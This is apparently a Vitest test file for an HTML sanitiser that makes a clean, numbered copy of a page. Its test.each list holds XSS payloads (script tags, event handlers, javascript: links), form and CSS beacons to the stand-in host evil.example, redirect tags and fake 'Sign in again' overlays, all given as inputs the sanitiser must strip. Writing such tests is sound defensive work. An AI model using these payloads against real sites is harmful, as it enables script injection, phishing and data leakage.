import { expect, test } from 'vitest';
import { makeCleanCopy } from './clean-copy.ts';

const copy = (html: string) => makeCleanCopy(html, 'https://evil.example/all');

test('keeps what there is to see, with a number for each element', () => {
  const { html } = copy('<ul class="stock"><li id="a">Rimu <b>tallboy</b></li></ul>');
  expect(html).toBe(
    '<ul data-number="3" class="stock"><li data-number="4" id="a">Rimu <b data-number="5">tallboy</b></li></ul>',
  );
});

test.each([
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)" target="_top" ping="/x">x</a>',
  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name="password"><button formaction="/x">Send</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/" target="_top">',
  '<object data="x"></object><embed src="x"><svg onload=alert(1)><a href="javascript:1">x</a></svg>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<div style="background:url(https://evil.example/x)" onclick="alert(1)" contenteditable autofocus>x</div>',
  '<p title="&quot;><script>alert(1)</script>" class=\'"><script>alert(1)</script>\'>x</p>',
  '<template><script>alert(1)</script></template><noscript><script>alert(1)</script></noscript>',
  '<video src=x onerror=alert(1)></video><details ontoggle=alert(1) open>x</details>',
  '<p style="position:fixed;inset:0;z-index:9">Sign in again</p>',
  '<p style="posit\\69on:fixed;inset:0">Sign in again</p>',
  '<p style="\\p\\00006f sition:f\\49 xed;background:\\75 rl(https://evil.example/x)">Sign in again</p>',
  '<x-evil onfocus=alert(1) tabindex=0 popover>x</x-evil>',
])('leaves out what could act: %s', (html) => {
  const cleaned = copy(html).html;
  expect(cleaned).not.toMatch(
    /<(?:script|iframe|form|input|meta|base|object|embed|svg|math|template|noscript|video|x-evil|style|link)|javascript:|evil\.example|position:\s*fixed/i,
  );
  // No attribute but ours and the few that only say how it looks.
  const names = [...cleaned.matchAll(/<[a-z\d]+((?:\s[a-z-]+="[^"]*")*)>/g)].flatMap(([, attributes = '']) =>
    [...attributes.matchAll(/\s([a-z-]+)="/g)].map(([, name]) => name),
  );
  expect(names.length).toBe([...cleaned.matchAll(/="/g)].length);
  for (const name of names)
    expect(['data-number', 'data-picture', 'class', 'id', 'style', 'alt']).toContain(name);
});

test('styles load nothing, stay in their place and do not end their element', () => {
  const { styles } = copy(
    '<style>@import "https://evil.example/a.css"; p{background:url("https://evil.example/x");position:fixed}</style>',
  );
  expect(styles).toEqual([expect.stringContaining('position:static')]);
  expect(styles.join()).not.toContain('evil.example');
});

test('what is escaped in the name of a class stays so', () => {
  const { styles } = copy('<style>.sm\\:flex,.\\31 2,.w\\.5{color:red}</style>');
  expect(styles).toEqual(['.sm\\:flex,.\\31 2,.w\\.5{color:red}']);
});

test('a deep page and a wide one are cut, not choked on', () => {
  expect(copy('<div>'.repeat(2_000)).html.length).toBeLessThan(2_000_000);
  expect(copy(`<p>${'x'.repeat(100)}</p>`.repeat(25_000)).html.length).toBeLessThan(4_000_000);
});

test('styles full of comments that never end are read once', () => {
  const { styles } = copy(`<style>p{color:red}/* a */b{color:blue}${'/*a'.repeat(90_000)}</style>`);
  expect(styles).toEqual(['p{color:red}b{color:blue}']);
});
